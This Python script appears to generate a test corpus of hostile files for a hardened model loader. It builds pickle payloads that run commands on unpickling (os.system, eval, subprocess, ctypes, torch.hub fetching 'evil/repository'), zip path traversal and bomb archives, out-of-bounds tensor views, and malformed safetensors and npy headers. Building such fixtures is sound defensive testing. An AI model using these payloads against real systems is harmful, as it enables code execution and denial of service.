"""Writes a hostile file by the name of the attack, with the standard library.

attack.py NAME FILE     one file
attack.py --list KIND   the names of a kind
attack.py --run NAME    has Python unpickle the code of that name: the attack is real
"""

import json
import struct
import sys
import zlib

ATTACKS = {}  # name: (kind, function)


def attack(kind, name):
    def keep(f):
        ATTACKS[name] = (kind, f)
        return f
    return keep


# --- pickles, opcode by opcode ---

def text(s):
    return b"X" + struct.pack("<I", len(s)) + s.encode()


def name(module, attribute):
    return f"c{module}\n{attribute}\n".encode()


def number(n):
    if 0 <= n < 256:
        return b"K" + bytes([n])
    width = n.bit_length() // 8 + 1
    return b"\x8a" + bytes([width]) + n.to_bytes(width, "little", signed=True)


def numbers(values):
    return b"(" + b"".join(map(number, values)) + b"t"


def storage(key, count, kind="FloatStorage"):
    return b"(" + text("storage") + name("torch", kind) + text(key) + text("cpu") + number(count) + b"tQ"


def tensor(where, shape, stride, offset=0):
    return (name("torch._utils", "_rebuild_tensor_v2") + b"(" + where + number(offset) +
            numbers(shape) + numbers(stride) + b"\x89" + name("collections", "OrderedDict") + b")RtR")


WEIGHT = tensor(storage("0", 4), [4], [1])


def state(**more):
    """A state dict with the tensor w and other values."""
    body = b"".join(text(key) + value for key, value in dict(w=WEIGHT, **more).items())
    return b"\x80\x02}(" + body + b"u."


# --- zip archives, field by field ---

def record(path, data, *, method=0, crc=None, n=None, packed=None, local=None, at=None, flags=0):
    return {"path": path.encode(), "data": data if packed is None else packed, "method": method,
            "crc": zlib.crc32(data) if crc is None else crc, "n": len(data) if n is None else n,
            "local": path.encode() if local is None else local.encode(), "at": at, "flags": flags}


def archive(records, count=None, zip64=None):
    body, directory, places = bytearray(), bytearray(), {}
    for r in records:
        at = len(body)
        if r["at"] is not None:  # another record's bytes
            at = places[r["at"]]
        else:
            places[r["path"].decode()] = at
            body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, r["flags"], r["method"], 0, 0, r["crc"],
                                len(r["data"]), r["n"] & 0xFFFFFFFF, len(r["local"]), 0)
            body += r["local"] + r["data"]
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, r["flags"], r["method"], 0, 0,
                                 r["crc"], len(r["data"]), r["n"] & 0xFFFFFFFF, len(r["path"]), 0, 0, 0,
                                 0, 0, at) + r["path"]
    end = b""
    if zip64:
        end = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, zip64, zip64, len(directory),
                          len(body))
        end += struct.pack("<IIQI", 0x07064B50, 0, len(body) + len(directory), 1)
    count = len(records) if count is None else count
    end += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(body), 0)
    return bytes(body + directory + end)


FOUR = struct.pack("<4f", 1, 2, 3, 4)


def model(pickle, *more, numbers=FOUR):
    return archive([record("m/data.pkl", pickle), record("m/version", b"3\n"),
                    record("m/data/0", numbers), *more])


def deflate(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


# --- code in a pickle ---

COMMAND = text("touch pwned")
CODE = {
    # each is a value that, unpickled by Python, runs a command
    "reduce": name("os", "system") + COMMAND + b"\x85R",
    "reduce-posix": name("posix", "system") + COMMAND + b"\x85R",
    "reduce-eval": name("builtins", "eval") + text("__import__('os').system('touch pwned')") + b"\x85R",
    "reduce-exec": name("__builtin__", "exec") + text("open('pwned', 'w')") + b"\x85R",
    "reduce-import": name("importlib", "import_module") + text("pwned") + b"\x85R",
    "reduce-load": name("pickle", "loads") + b"B\x0a\0\0\0cos\nabort\n)" + b"\x85R",
    "reduce-hub": name("torch.hub", "load") + text("evil/repository") + text("model") + b"\x86R",
    "reduce-run": name("runpy", "_run_code") + text("open('pwned', 'w')") + b"}\x86R",
    "reduce-partial": name("functools", "partial") + name("os", "system") + b"\x85R" + COMMAND + b"\x85R",
    "reduce-getattr": (name("builtins", "getattr") + name("os", "path") + text("os") + b"\x86R" +
                       COMMAND + b"\x85R"),
    "reduce-getattr-of-call": (name("builtins", "getattr") + name("builtins", "__import__") + text("os") +
                               b"\x85R" + text("system") + b"\x86R" + COMMAND + b"\x85R"),
    "reduce-methodcaller": name("operator", "methodcaller") + text("system") + COMMAND + b"\x86R",
    "stack-global": b"\x8c\x02os\x8c\x06system\x93" + COMMAND + b"\x85R",
    "stack-global-memo": (b"\x8c\x02os\x94\x8c\x06system\x94" + b"00h\x00h\x01\x93" + COMMAND + b"\x85R"),
    "newobj": name("subprocess", "Popen") + b"](" + text("touch") + text("pwned") + b"e\x85\x81",
    "newobj-ex": name("subprocess", "Popen") + b"](" + text("touch") + text("pwned") + b"e\x85}\x92",
    "inst": b"(" + COMMAND + b"ios\nsystem\n",
    "obj": b"(" + name("os", "system") + COMMAND + b"o",
    "reconstructor": (name("copyreg", "_reconstructor") + name("subprocess", "Popen") +
                      name("builtins", "object") + b"N\x87R"),
    "library": name("ctypes", "CDLL") + text("./evil.so") + b"\x85R",
    "extension": b"\x82\x01",
    "persistent-call": b"(" + name("os", "system") + COMMAND + b"\x85RtQ",
    # BUILD calls __setstate__; nothing in heatpipe does
    "build": (name("training", "Net") + b")\x81}(" + text("__setstate__") + name("os", "system") + b"ub" +
              COMMAND + b"b"),
    "build-slots": (name("training", "Net") + b")\x81N}(" + text("__class__") + name("os", "system") +
                    b"u\x86b"),
}
for key, value in CODE.items():
    ATTACKS[key] = ("code", lambda value=value: model(state(x=value)))

HEAD = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03."


def legacy(pickle, keys=b"](X\x01\0\0\x000e.", data=struct.pack("<q", 4) + FOUR, system=b"}."):
    return HEAD + system + pickle + b"\x80\x02" + keys + data


ATTACKS["legacy-reduce"] = ("code", lambda: legacy(state(x=CODE["reduce"])))
ATTACKS["legacy-system"] = ("code", lambda: legacy(state(), system=CODE["reduce"] + b"."))
ATTACKS["legacy-keys"] = ("code", lambda: legacy(state(), keys=CODE["newobj"] + b"."))


# --- tensors that leave their storage, CVE-2026-24747 ---

def one(shape, stride, offset=0, count=4, kind="FloatStorage", data=FOUR):
    return model(b"\x80\x02}(" + text("w") + tensor(storage("0", count, kind), shape, stride, offset) +
                 b"u.", numbers=data)


STORAGE = {
    "size-beyond": lambda: one([5], [1]),
    "stride-beyond": lambda: one([2, 2], [3, 1]),
    "offset-beyond": lambda: one([2], [1], 3),
    "offset-negative": lambda: one([2], [1], -1),
    "stride-negative": lambda: one([2], [-1], 2),
    "stride-zero": lambda: one([1 << 40], [0]),
    "size-negative": lambda: one([-1, -4], [1, 1]),
    "size-wraps": lambda: one([1 << 32, 1 << 32], [0, 0]),
    "reach-wraps": lambda: one([3, 2], [1 << 62, 1]),
    "count-beyond": lambda: one([4], [1], count=5),
    "count-wraps": lambda: one([4], [1], count=(1 << 62) + 1),
    "count-negative": lambda: one([4], [1], count=-4),
    "kind-wider": lambda: one([4], [1], kind="DoubleStorage"),
    "setitem-tensor": lambda: model(b"\x80\x02" + WEIGHT + text("a") + b"K\x01s."),
    "setitem-list": lambda: model(state(x=b"]" + text("a") + b"K\x01s")),
    "setitems-tuple": lambda: model(state(x=b")(" + text("a") + b"K\x01u")),
    "append-dict": lambda: model(state(x=b"}K\x01a")),
    "key-outside": lambda: model(b"\x80\x02}(" + text("w") + tensor(storage("../0", 4), [4], [1]) + b"u."),
    "legacy-count-wraps": lambda: legacy(state(), data=struct.pack("<Q", (1 << 62) + 1) + FOUR),
    "legacy-count-beyond": lambda: legacy(state(), data=struct.pack("<Q", 5) + FOUR),
    "legacy-count-short": lambda: legacy(state(), data=struct.pack("<Q", 3) + FOUR),
    "legacy-key-twice": lambda: legacy(state(), keys=b"](X\x01\0\0\x000X\x01\0\0\x000e.",
                                       data=2 * (struct.pack("<Q", 4) + FOUR)),
}
for key, f in STORAGE.items():
    ATTACKS[key] = ("storage", f)


# --- the tar archives of PyTorch before 0.1.10, CVE-2025-32434 ---

@attack("tar", "tar")
def legacy_tar():
    import io
    import tarfile
    f = io.BytesIO()
    with tarfile.open(fileobj=f, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for path, data in (("sys_info", b"}."), ("pickle", CODE["reduce"] + b"."), ("storages", b"K\0."),
                           ("tensors", b"K\0.")):
            info = tarfile.TarInfo(path)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return f.getvalue()


# --- archives that say one thing to one reader and another to the next ---

GOOD, EVIL = state(), state(x=CODE["reduce"])
ARCHIVE = {
    "twice": lambda: archive([record("m/data.pkl", GOOD), record("m/data.pkl", EVIL),
                              record("m/data/0", FOUR)]),
    "other-name": lambda: archive([record("m/data.pkl", GOOD, local="m/data.PKL"),
                                   record("m/data/0", FOUR)]),
    "bad-sum": lambda: archive([record("m/data.pkl", GOOD, crc=1), record("m/data/0", FOUR)]),
    "bad-sum-of-weights": lambda: archive([record("m/data.pkl", GOOD), record("m/data/0", FOUR, crc=1)]),
    "shared": lambda: archive([record("m/data.pkl", GOOD), record("m/data/0", FOUR),
                               record("m/data/0", FOUR, at="m/data/0")]),
    "overlap": lambda: overlap(),
    "parent": lambda: model(GOOD, record("m/../../pwned", b"x")),
    "absolute": lambda: model(GOOD, record("/tmp/pwned", b"x")),
    "terminal": lambda: model(GOOD, record("m/\x1b]0;pwned\x07", b"x")),
    "encrypted": lambda: archive([record("m/data.pkl", GOOD, flags=1), record("m/data/0", FOUR)]),
    "method": lambda: archive([record("m/data.pkl", GOOD, method=14), record("m/data/0", FOUR)]),
    "directory-twice": lambda: model(GOOD) + model(EVIL),
    "count-too-large": lambda: archive([record("m/data.pkl", GOOD)], count=0xFFFF),
    "zip64-count-wraps": lambda: archive([record("m/data.pkl", GOOD)], zip64=(1 << 60) + 1),
    "bomb": lambda: archive([record("m/data.pkl", GOOD), record("m/data/0", bytes(20 << 20), method=8,
                                                                packed=deflate(bytes(20 << 20)))]),
    "bomb-understated": lambda: archive([record("m/data.pkl", GOOD),
                                         record("m/data/0", bytes(20 << 20), method=8, n=16,
                                                packed=deflate(bytes(20 << 20)))]),
    "bomb-overstated": lambda: archive([record("m/data.pkl", GOOD),
                                        record("m/data/0", FOUR, method=8, n=0xFFFFFFF0,
                                               packed=deflate(FOUR))]),
}


def overlap():
    """The second record's bytes hold a record that the directory lists as well."""
    inner = archive([record("m/data/0", FOUR)])
    whole = bytearray(archive([record("m/data.pkl", GOOD), record("m/other", inner),
                               record("m/data/0", FOUR)]))
    at = whole.index(inner)
    entry = whole.rindex(b"m/data/0") - 4
    whole[entry:entry + 4] = struct.pack("<I", at)
    return bytes(whole)


for key, f in ARCHIVE.items():
    ATTACKS[key] = ("archive", f)


# --- safetensors ---

def safetensors(header, data=b"", length=None):
    raw = header.encode() if isinstance(header, str) else header
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def entry(start, end, n=None, dtype="F32"):
    return {"dtype": dtype, "shape": [(end - start) // 4 if n is None else n],
            "data_offsets": [start, end]}


SAFETENSORS = {
    "hole": lambda: safetensors(json.dumps({"a": entry(0, 8), "b": entry(12, 16)}), FOUR),
    "hole-first": lambda: safetensors(json.dumps({"a": entry(4, 16)}), FOUR),
    "hole-last": lambda: safetensors(json.dumps({"a": entry(0, 8)}), FOUR),
    "overlap-part": lambda: safetensors(json.dumps({"a": entry(0, 12), "b": entry(8, 16)}), FOUR),
    "overlap-whole": lambda: safetensors(json.dumps({"a": entry(0, 16), "b": entry(0, 16)}), FOUR),
    "key-twice": lambda: safetensors('{"a":%s,"a":%s}' % (json.dumps(entry(0, 8)),
                                                           json.dumps(entry(8, 16))), FOUR),
    "end-beyond": lambda: safetensors(json.dumps({"a": entry(0, 20)}), FOUR),
    "shape-wraps": lambda: safetensors(json.dumps({"a": {"dtype": "F32", "data_offsets": [0, 0],
                                                         "shape": [1 << 32, 1 << 32]}}), FOUR),
    "offsets-swapped": lambda: safetensors(json.dumps({"a": entry(16, 0, 4)}), FOUR),
    "length-beyond": lambda: safetensors("{}", FOUR, length=1 << 63),
    "nested": lambda: safetensors('{"a":' + "[" * 100000 + "]" * 100000 + "}"),
    "not-text": lambda: safetensors(b'{"\xff\xfe":1}'),
}
for key, f in SAFETENSORS.items():
    ATTACKS[key] = ("safetensors", f)


# --- files that are small, or say that they are, and want to grow ---

HEADER_MAX = 768 << 10


def padded(text):
    return safetensors(text + " " * (HEADER_MAX - len(text)))


BIG = {
    # The header of a .safetensors, as long as it may be, of what takes most memory each.
    "safetensors-numbers": lambda: padded('{"a":[' + "0," * (HEADER_MAX // 2 - 8) + "0]}"),
    "safetensors-lists": lambda: padded('{"a":[' + "[]," * (HEADER_MAX // 3 - 8) + "[]]}"),
    "safetensors-dicts": lambda: padded('{"a":[' + "{}," * (HEADER_MAX // 3 - 8) + "{}]}"),
    "safetensors-keys": lambda: padded(
        "{" + ",".join(f'"{i:x}":0' for i in range(HEADER_MAX // 10 - 8)) + "}"),
    "safetensors-long": lambda: safetensors(
        "{" + ",".join(f'"{i:07x}":{{}}' for i in range(100000000 // 13)) + "}"),
    # in data.pkl
    "pickle-prefixes": lambda: prefixes(32000),
    "pickle-nones": lambda: model(b"\x80\x02(" + b"N" * (8 << 20) + b"t."),
    "pickle-dicts": lambda: model(b"\x80\x02(" + b"}" * (4 << 20) + b"t."),
    "pickle-marks": lambda: model(b"\x80\x02" + b"(" * (4 << 20)),
    "pickle-nested": lambda: model(b"\x80\x02)" + b"\x85" * (1 << 20) + b"."),
    "pickle-laughs": lambda: model(b"\x80\x02)" + b"2\x86" * 100000 + b"."),
    "pickle-laughs-list": lambda: model(b"\x80\x02]q\0" + b"(" + b"h\0" * 1000 + b"lq\0" * 1 +
                                        (b"(" + b"h\0" * 1000 + b"lq\0") * 5000 + b"."),
    "pickle-long": lambda: model(b"\x80\x02\x8b\xff\xff\xff\x7f."),
    "pickle-text": lambda: model(b"\x80\x02\x8d" + b"\xff" * 8 + b"."),
    "pickle-memo": lambda: model(b"\x80\x02Nr\xff\xff\xff\xff."),
    "pickle-memo-far": lambda: model(b"\x80\x02T\0\0\xc0\0" + bytes(12 << 20) + b"r\0\0\xb0\0."),
    "pickle-puts": lambda: model(b"\x80\x02N" + b"".join(b"r" + struct.pack("<I", i)
                                                          for i in range(2 << 20)) + b"."),
    "pickle-latin1": lambda: model(b"\x80\x02" + name("_codecs", "encode") + b"q\0" + text("x" * (1 << 20)) +
                                   b"q\1" + text("latin1") + b"q\2\x86R" + b"0h\0h\1h\2\x86R" * 1000 + b"."),
    "pickle-pairs": lambda: model(b"\x80\x02" + name("collections", "OrderedDict") + b"q\0](" +
                                  b"NN\x86" * 100000 + b"eq\1\x85R" + b"0h\0h\1\x85R" * 1000 + b"."),
    "pickle-names": lambda: model(b"\x80\x02" + (b"c" + b"a" * 250 + b"\n" + b"b" * 250 + b"\n") * 40000 + b"."),
    # a pickle of 15 MB that unpacks from some kilobytes
    "pickle-packed": lambda: archive([record("m/data.pkl", b"(" + b"N" * (15 << 20), method=8,
                                             packed=deflate(b"(" + b"N" * (15 << 20)))]),
    "zip-records": lambda: archive([record(f"m/{i}", b"") for i in range(65535)]),
    "npy-header-long": lambda: b"\x93NUMPY\2\0\xff\xff\xff\xff" + b" " * 100,
    "npy-shape-wraps": lambda: npy("(4294967296, 4294967296, 3)"),
    "npy-shape-huge": lambda: npy("(1, 3000000000, 3000000000)", b"x"),
    "npy-image-huge": lambda: npy("(1, 8192, 8192, 3)", b"x"),
    "npy-axes-many": lambda: npy("(" + "1, " * 1000 + ")", b"x"),
    "cifar-shape": lambda: cifar(number(1 << 40), number(1 << 40)),
    "cifar-rows": lambda: cifar(number(1 << 50), number(3072)),
    "tsv-columns": lambda: "\t".join(f"c{i}" for i in range(1000000)).encode() + b"\n",
    "tsv-tabs": lambda: b"true\tpred\n" + b"\t" * (1 << 24) + b"\n",
}
for key, f in BIG.items():
    ATTACKS[key] = ("big", f)


def npy(shape, data=b"", room=0):
    head = f"{{'descr': '|u1', 'fortran_order': False, 'shape': {shape}, }}".encode().ljust(room)
    return b"\x93NUMPY\2\0" + struct.pack("<I", len(head)) + head + data


def cifar(rows, columns):
    array = (name("numpy.core.multiarray", "_reconstruct") + b"(" + name("numpy", "ndarray") + b"K\0\x85" +
             b"U\1btR(K\1" + rows + columns + b"\x86" + name("numpy", "dtype") +
             b"(U\2u1K\0K\1tR(K\3U\1|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb\x89U\3abctb")
    return b"\x80\2}(U\4data" + array + b"U\6labels](K\1eu."


# --- a limit each: the last that is read, and the first that is not ---

def keys(n):
    return model(b"\x80\x02}(" + text("k" * n) + WEIGHT + b"u.")


def axes(n):
    return model(b"\x80\x02}(" + text("w") + tensor(storage("0", 4), [1] * n, [1] * n) + b"u.")


def storage_key(n):
    return archive([record("m/data.pkl", b"\x80\x02}(" + text("w") + tensor(storage("k" * n, 4), [4], [1]) +
                           b"u."), record("m/data/" + "k" * n, FOUR)])


def unpacked(beyond):
    """A record that unpacks to as many bytes more than the archive as may be."""
    numbers = bytes((16 << 20) + (1 << 16))
    packed = deflate(numbers)
    build = lambda pad: archive([record("m/data.pkl", GOOD), record("m/data/0", numbers, method=8, packed=packed),
                                 record("m/pad", bytes(pad))])
    pad = len(numbers) - (16 << 20) - len(build(0))
    return build(pad - beyond)


def network(blocks=1, stages=1, side=3, width=4):
    """A network whose tensors are all views of one storage of zeros."""
    count = width * width * 9
    shapes = {"conv1": (width, 3, side, side), "bn1": None}
    for s in range(1, stages + 1):
        for b in range(blocks):
            at = f"layer{s}.{b}."
            for i in "12":
                shapes |= {at + "conv" + i: (width, width, 3, 3), at + "bn" + i: None}
            if s > 1 and b == 0:
                shapes |= {at + "downsample.0": (width, width, 1, 1), at + "downsample.1": None}
    body = []

    def put(key, *shape):
        nonlocal count
        stride, n = [], 1
        for d in reversed(shape):
            stride.insert(0, n)
            n *= d
        count = max(count, n)
        body.append((key, shape, stride))
    for key, shape in shapes.items():
        if shape:
            put(key + ".weight", *shape)
        else:
            for part in "weight", "bias", "running_mean", "running_var":
                put(f"{key}.{part}", width)
    put("fc.weight", 2, width)
    put("fc.bias", 2)
    pickled = b"".join(text(key) + tensor(storage("0", count), shape, stride)
                       for key, shape, stride in body)
    return model(b"\x80\x02}(" + pickled + b"u.", numbers=bytes(4 * count))


def prefixes(n):
    """What could be the beginning of a network, n times."""
    more = b"".join(text(f"p{i:x}.{part}.weight") + b"h\0" for i in range(n)
                    for part in ("conv1", "layer1.0.conv1"))
    return model(b"\x80\x02}(" + text("w") + WEIGHT + b"q\0" + more + b"u.")


def tensors(n):
    """The tensor once, under many keys."""
    more = b"".join(text(f"{i:x}") + b"h\0" for i in range(n - 1))
    return model(b"\x80\x02}(" + text("w") + WEIGHT + b"q\0" + more + b"u.")


EDGES = {
    "tensors": (tensors, 65536),
    # Each pair of convolutions shows the same 147,456 numbers.
    "network-numbers": (lambda n: network(blocks=n, width=128), 15),
    "network-stages": (lambda n: network(stages=n), 16),
    "network-window": (lambda n: network(side=n), 15),
    "key": (keys, 500), "axes": (axes, 8), "storage-key": (storage_key, 64),
    "records": (lambda n: archive([record("m/data.pkl", GOOD), record("m/data/0", FOUR)] +
                                  [record(f"m/{i}", b"") for i in range(n - 2)], count=0xFFFF, zip64=n), 1 << 17),
    "unpacked": (unpacked, 0),
    "marks": (lambda n: model(b"\x80\x02" + b"(" * n + b"N."), 10000),
    "name": (lambda n: model(b"\x80\x02c" + b"m" * 100 + b"\n" + b"n" * (n - 102) + b"\n."), 512),
    "npy-header": (lambda n: npy("(1, 1, 1, 3)", b"abc", room=n), 1 << 16),
    "npy-axes": (lambda n: npy("(" + "1, " * n + ")", b"a"), 8),
    "image-side": (lambda n: npy(f"(1, 1, {n}, 3)", bytes(3 * n)), 8192),
    "image-pixels": (lambda n: npy(f"(1, 2048, {n}, 3)", bytes(3 * 2048 * n)), 2048),
    "columns": (lambda n: ("true\tpred\tgroup_true" + "".join(f"\tc{i}" for i in range(n - 3)) + "\n").encode(),
                65536),
    "row": (lambda n: b"true\tpred\tnote\n0\t0\t" + b"x" * (n - 4) + b"\n", 1 << 24),
    "labels": (lambda n: b"0\n" * n, 1 << 23),
    "names": (lambda n: b"a\n" * n, 65536),
    "name-bytes": (lambda n: b"a" * n + b"\n", 65536),
}
for key, (f, last) in EDGES.items():
    ATTACKS[key + "-last"] = ("edge", lambda f=f, last=last: f(last))
    ATTACKS[key + "-beyond"] = ("edge", lambda f=f, last=last: f(last + 1))


def main():
    if sys.argv[1] == "--list":
        print("\n".join(n for n, (kind, _) in ATTACKS.items() if kind == sys.argv[2]))
        return
    if sys.argv[1] == "--run":
        import pickle
        import subprocess
        result = pickle.loads(b"\x80\x02" + CODE[sys.argv[2]] + b".")
        if isinstance(result, subprocess.Popen):
            result.wait()
        return
    with open(sys.argv[2], "wb") as f:
        f.write(ATTACKS[sys.argv[1]][1]())


main()
